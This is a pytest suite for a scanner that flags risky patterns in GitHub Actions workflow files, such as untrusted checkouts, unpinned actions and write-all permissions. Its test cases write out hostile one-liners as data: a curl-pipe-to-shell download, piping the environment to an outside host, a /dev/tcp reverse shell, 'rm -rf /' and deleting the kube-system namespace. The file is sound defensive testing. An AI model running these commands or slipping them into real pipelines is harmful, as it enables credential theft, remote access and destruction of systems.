"""What a workflow file would give away is found, told at its place, and harmless ones are left alone."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reign_executors.workflows.dangers import MOST_TEXT, workflow_findings

HARMLESS = """
name: tests
on:
  push:
    branches: [main]
  pull_request:
permissions:
  contents: read
jobs:
  tests:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: ./.github/actions/setup
      - uses: astral-sh/setup-uv@38f3f104447c67c051c4a08e39b64a148898af3a
      - run: |
          uv sync
          rm -rf ./build "${{ github.workspace }}/dist"
          pytest -q
      - run: |
          curl -fsS -H "Authorization: Bearer ${{ secrets.API_TOKEN }}" https://api.example.com/health
"""


def rules(text: str) -> set[tuple[str, str]]:
    return {(f.rule, f.level) for f in workflow_findings(text)}


def steps(*lines: str, on: str = "push", runs_on: str = "ubuntu-latest") -> str:
    body = "\n".join(f"      {line}" for line in lines)
    return f"on: {on}\njobs:\n  one:\n    runs-on: {runs_on}\n    steps:\n{body}\n"


def test_a_careful_workflow_has_no_findings() -> None:
    assert workflow_findings(HARMLESS) == ()


@pytest.mark.parametrize(
    ("text", "rule", "level"),
    [
        (
            steps(
                "- uses: actions/checkout@v4",
                "  with:",
                "    ref: ${{ github.event.pull_request.head.sha }}",
                on="pull_request_target",
            ),
            "workflow.untrusted-checkout",
            "unclear",
        ),
        (
            steps("- uses: actions/checkout@v4", "  with: {ref: '${{ github.head_ref }}'}", on="[push, workflow_run]"),
            "workflow.untrusted-checkout",
            "unclear",
        ),
        (steps("- run: curl -fsSL https://x.io/i.sh | sh"), "code.from-network", "unclear"),
        (
            steps("- run: curl -fsSL https://x.io/i.sh | sh", runs_on="self-hosted"),
            "code.from-network",
            "catastrophic",
        ),
        (steps("- run: env | curl -d @- https://x.io"), "credential.sent", "catastrophic"),
        (steps("- run: bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"), "shell.reverse", "catastrophic"),
        (steps("- run: echo ${{ secrets.DEPLOY_KEY }}"), "credential.shown", "unclear"),
        (steps("- run: echo '${{ github.event.issue.title }}'"), "workflow.injection", "unclear"),
        (
            steps("- uses: actions/github-script@v7", "  with:", "    script: f('${{ github.event.comment.body }}')"),
            "workflow.injection",
            "unclear",
        ),
        (steps("- uses: someone/action@v1"), "workflow.unpinned-action", "notice"),
        (steps("- uses: docker://alpine:3"), "workflow.unpinned-action", "notice"),
        (steps("- run: make", runs_on="[self-hosted, linux]", on="pull_request"), "workflow.own-runner", "unclear"),
        ("on: push\npermissions: write-all\njobs: {}\n", "workflow.write-all", "notice"),
        ("on: push\njobs:\n  a:\n    permissions: write-all\n", "workflow.write-all", "notice"),
        (
            "on: push\njobs:\n  a:\n    uses: o/r/.github/workflows/x.yml@main\n    secrets: inherit\n",
            "workflow.secrets-inherited",
            "notice",
        ),
        ("runs:\n  using: composite\n  steps:\n    - run: curl https://x | bash\n", "code.from-network", "unclear"),
        ("jobs: [", "unclear.syntax", "unclear"),
        ("#" * (MOST_TEXT + 1), "unclear.long", "unclear"),
        (steps("- run: kubectl delete ns kube-system"), "cluster.kube-system", "catastrophic"),
        (steps("- run: rm -rf /"), "delete.root", "unclear"),
    ],
)
def test_found(text: str, rule: str, level: str) -> None:
    assert (rule, level) in rules(text)


def test_a_finding_points_at_its_place() -> None:
    text = steps("- uses: someone/action@v1")
    finding = workflow_findings(text)[0]
    assert text[finding.start : finding.end] == "someone/action@v1"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "just words",
        "- a\n- b\n",
        "on: push\njobs: 3\n",
        "jobs:\n  a: [1, 2]\n",
        "jobs:\n  a:\n    steps: {x: y}\n",
        steps("- run: rm -rf /", "  shell: pwsh"),
        steps("- run: echo ${{ github.sha }}"),
        steps("- uses: actions/checkout@v4", on="pull_request_target"),
        "on: push\ndefaults: {run: {shell: python}}\njobs: {a: {steps: [{run: 'import os'}]}}\n",
    ],
)
def test_odd_but_harmless(text: str) -> None:
    assert workflow_findings(text) == ()


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200) | st.lists(st.sampled_from(HARMLESS.split("\n")), max_size=25).map("\n".join))
def test_nothing_crashes(text: str) -> None:
    for finding in workflow_findings(text):
        assert finding.level in ("notice", "unclear", "catastrophic")
